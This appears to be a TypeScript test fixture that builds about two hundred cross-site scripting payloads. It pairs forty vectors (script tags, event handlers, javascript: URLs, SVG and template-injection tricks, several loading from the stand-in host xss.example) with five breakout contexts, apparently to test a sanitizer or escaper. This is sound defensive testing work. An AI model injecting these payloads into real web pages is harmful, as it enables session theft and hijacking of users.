/** What a payload that runs calls; the tests listen. */
const hit = '__xss()';
const elsewhere = 'http://xss.example/';

/** Everything that has ever run a script without being asked. */
const vectors = [
  `<script>${hit}</script>`,
  `<ScRiPt >${hit}</sCrIpT>`,
  `<script src=${elsewhere}></script>`,
  `<script src=data:text/javascript,${hit}></script>`,
  `<script type=module>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `<img src=x onerror=${hit}//`,
  `<IMG SRC=x OnErRoR="${hit}">`,
  `<img/src=x/onerror=${hit}>`,
  `<img src=${elsewhere}>`,
  `<svg onload=${hit}>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text y=9>x</text></a>`,
  `<math><a href="javascript:${hit}">x</a></math>`,
  `<body onload=${hit}>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<object data=${elsewhere}></object>`,
  `<embed src=${elsewhere}>`,
  `<video src=x onerror=${hit}></video>`,
  `<audio src=x onerror=${hit}></audio>`,
  `<video><source onerror=${hit}></video>`,
  `<input autofocus onfocus=${hit}>`,
  `<details open ontoggle=${hit}>x</details>`,
  `<p style="animation:x" onanimationstart=${hit}>x`,
  `<link rel=stylesheet href=${elsewhere}>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}>`,
  `<form action=${elsewhere}><button>x</button></form>`,
  `<a href="javascript:${hit}">x</a>`,
  `<a href="data:text/html,<script>opener.${hit}</script>">x</a>`,
  `<style>*{background:url(${elsewhere})}</style>`,
  `javascript:${hit}`,
  `[x](javascript:${hit})`,
  `![x](${elsewhere})`,
  `{{constructor.constructor('${hit}')()}}`,
  `\${${hit}}`,
  `&lt;img src=x onerror=${hit}&gt;`,
];

/** Where a text may stand: between tags, in an attribute, in a script, in a comment, in a raw element. */
const contexts = ['', '">', "';</script>", '-->', '</title></textarea>'];

/** Two hundred texts that would run something if a page took them for more than text. */
export const xssPayloads: string[] = contexts.flatMap((context) =>
  vectors.map((vector) => context + vector),
);

/** Puts as many payloads into one text as fit; one that is longer alone is cut. */
export const groupsOf = (max: number): string[] => {
  const groups: string[] = [];
  for (const payload of xssPayloads) {
    const last = groups.at(-1);
    const longer = `${last} ${payload}`;
    if (last !== undefined && longer.length <= max) groups[groups.length - 1] = longer;
    else groups.push(payload.slice(0, max).trim());
  }
  return groups;
};
